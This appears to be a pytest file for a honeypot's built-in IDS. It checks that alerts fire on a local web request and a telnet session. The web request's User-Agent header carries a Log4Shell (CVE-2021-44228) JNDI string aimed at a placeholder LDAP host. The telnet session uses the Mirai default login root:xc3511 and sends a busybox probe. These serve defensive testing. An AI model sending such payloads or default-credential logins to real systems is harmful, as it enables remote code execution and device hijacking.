"""IDS in the collector: Mitsu's built-in Suricata rules run over every event with payload buffers, and
alerts land in the same stream (ids.alert tied to the triggering session), from a real curl request to
the web honeypot and a real telnet-style bot session."""
import socket
import subprocess
import time

from conftest import MITSU, Sensor, free_port_base, wait_for

CONFIG = """
honeypots:
  trap:
    enabled: false
  ftp: {enabled: false}
  tftp: {enabled: false}
  mysql: {enabled: false}
  mssql: {enabled: false}
  sip: {enabled: false}
  ssh:
    tcp_ports: [2222]
    auth_rules: ["root:xc3511", "*:!*"]
    accept_after: 0
  telnet:
    tcp_ports: [2323]
  web:
    tcp_ports: [8080]
    https_ports: []
"""


def test_alerts_from_web_and_shell_events(tmp_path):
    s = Sensor(tmp_path, CONFIG, free_port_base(), worker="web").start()
    try:
        port = 8080 + s.offset
        assert wait_for(lambda: _open(port), 20)
        r = subprocess.run(["curl", "-s", "-o", "/dev/null", "-H", "User-Agent: ${jndi:ldap://198.51.100.9:1389/a}",
                            f"http://127.0.0.1:{port}/"], timeout=20)
        assert r.returncode == 0
        alerts = wait_for(lambda: [a for a in s.events(event="ids.alert") if a["alert"]["signature_id"] == 9100001], 15)
        assert alerts, s.events(event="ids.alert")
        a = alerts[0]
        assert "CVE-2021-44228" in a["alert"]["cve_ids"] and a["alert"]["rev"] == 1 and a["honeypot"] == "web"
        request = [e for e in s.events(event="http.request") if e["session"] == a["session"]]
        assert request and request[0]["src_ip"] == a["src_ip"], "the alert is tied to the request's session"

        # A bot's busybox probe over telnet (its worker starts beside the web one: wait for its port too).
        assert wait_for(lambda: _open(2323 + s.offset), 20)
        t = socket.create_connection(("127.0.0.1", 2323 + s.offset), timeout=10)
        buf = b""
        for want, send in ((b"login: ", b"root\r\n"), (b"Password: ", b"xc3511\r\n"), (b"# ", b"/bin/busybox ECCHI\r\n")):
            deadline = time.time() + 10
            while want not in buf and time.time() < deadline:
                buf += t.recv(4096)
            t.sendall(send)
        time.sleep(0.5)
        t.close()
        mirai = wait_for(lambda: [a for a in s.events(event="ids.alert") if a["alert"]["signature_id"] == 9100300], 15)
        assert mirai and mirai[0]["honeypot"] == "telnet", s.events(event="ids.alert")
    finally:
        s.stop()


def test_ids_check_reports_loaded_and_rejected(tmp_path):
    rules = tmp_path / "x.rules"
    rules.write_text('alert http any any -> any any (msg:"ok"; content:"/x"; http.uri; sid:1; rev:1;)\n'
                     'alert tls any any -> any any (msg:"cert"; tls.certs; content:"evil"; sid:2; rev:1;)\n'
                     'alert tcp any any -> any any (msg:"broken"; content:"a"; sid:3\n')
    r = subprocess.run([MITSU, "ids", "check", str(rules)], capture_output=True, text=True)
    assert r.returncode == 0, r.stderr
    assert r.stdout.startswith("loaded 1 of 3 rules (33.3%)"), r.stdout
    assert "rejected 1: unsupported keyword tls.certs" in r.stdout and "rejected 1: syntax error" in r.stdout


def _open(port):
    try:
        socket.create_connection(("127.0.0.1", port), timeout=1).close()
        return True
    except OSError:
        return False
